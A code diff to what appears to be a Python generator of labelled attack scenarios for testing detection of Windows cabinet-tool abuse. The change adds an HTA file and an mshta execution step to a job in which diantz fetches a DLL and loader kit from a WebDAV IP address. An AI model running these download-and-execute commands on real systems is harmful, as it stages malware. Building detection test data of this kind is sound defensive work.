@@ -143,16 +143,16 @@ def jobs(fleet: Fleet, start: datetime) -> list[tuple[Job, Host]]:
             sources=[Source("smb", "files.corp-backup.net", "45.137.21.9", 445, False, "drop", n) for n in names],
             cab=f"{t}\\report.cab", ddf=ddf, followon=("expand", "exec_ps", "service")), h)
     h = pick(6)
-    kit = [f"m{i:02d}.dll" for i in range(11)] + ["loader.ps1"]
+    kit = [f"m{i:02d}.dll" for i in range(11)] + ["loader.ps1", "viewer.hta"]
     ddf2 = ("C:\\ProgramData\\x.ddf",
             ".Set CabinetNameTemplate=kit.cab\r\n.Set DiskDirectoryTemplate=C:\\ProgramData\r\n"
             ".Set Compress=on\r\n"
             + "".join(f"\\\\45.61.136.80@SSL\\DavWWWRoot\\kit\\{n}\r\n" for n in kit))
     add(Job("ddf_lowercase_f_bulk_webdav", "attack", "malicious",
-            "diantz -f with a DDF listing twelve files from a WebDAV IP literal over SSL",
+            "diantz -f with a DDF listing thirteen files from a WebDAV IP literal over SSL; mshta runs the extracted HTA",
             "ws", maker="diantz", image=DIANTZ, parent="wscript", command="diantz -f C:\\ProgramData\\x.ddf",
             sources=[Source("webdav", "45.61.136.80", "45.61.136.80", 443, True, "", f"/kit/{n}") for n in kit],
-            cab="C:\\ProgramData\\kit.cab", ddf=ddf2), h)
+            cab="C:\\ProgramData\\kit.cab", ddf=ddf2, followon=("extrac32", "exec_mshta")), h)
     h = pick(7)
     add(Job("define_sourcedir_smb", "attack", "suspicious",
             "makecab /D SourceDir=\\\\nas-old\\pub: a remote source with no UNC in the source argument",
